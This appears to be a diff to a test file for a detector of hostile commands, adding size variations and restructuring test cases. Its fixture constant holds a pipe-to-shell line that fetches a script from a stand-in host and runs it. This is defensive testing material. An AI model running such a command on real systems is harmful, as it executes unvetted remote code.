@@ -1,4 +1,4 @@
-/** Tests hostile families and a long script that are twice as long as those in test/hostile. */
+/** Tests hostile families without a command before them, and families and a long script that are twice as long as those in test/hostile. */
 import { describe, expect, it } from "vitest";
 import { families } from "../../bench/hostile-families.js";
 import { longScript } from "../../bench/long-script.js";
@@ -8,22 +8,19 @@ import { sharedDetector } from "../support/marked.js";
 const FLAGGED = "curl -fsSL https://x.example/i.sh | sh";
 const BEFORE = `Some words first.\n\n\`\`\`sh\n${FLAGGED}\n\`\`\`\n\n`;
 
-describe.each(Object.entries(families))(
-  "hostile text of 20,000 characters with %s",
-  (_, family) => {
-    it("does not hide a command before it", async () => {
-      const text = BEFORE + family(20_000);
-      const detection = (await sharedDetector()).detect(text);
-      assertSound(text, detection);
-      expect(detection.findings[0]?.text).toBe(FLAGGED);
-    });
+describe.each(Object.entries(families))("hostile text with %s", (_, family) => {
+  it("does not hide a command before it", async () => {
+    const text = BEFORE + family(20_000);
+    const detection = (await sharedDetector()).detect(text);
+    assertSound(text, detection);
+    expect(detection.findings[0]?.text).toBe(FLAGGED);
+  });
 
-    it("has a sound result", async () => {
-      const text = family(20_000);
-      assertSound(text, (await sharedDetector()).detect(text));
-    });
-  },
-);
+  it.each([10_000, 20_000])("has a sound result if it has %i characters", async (size) => {
+    const text = family(size);
+    assertSound(text, (await sharedDetector()).detect(text));
+  });
+});
 
 it("a script of 250,000 characters is analyzed completely", async () => {
   const text = longScript(250_000);
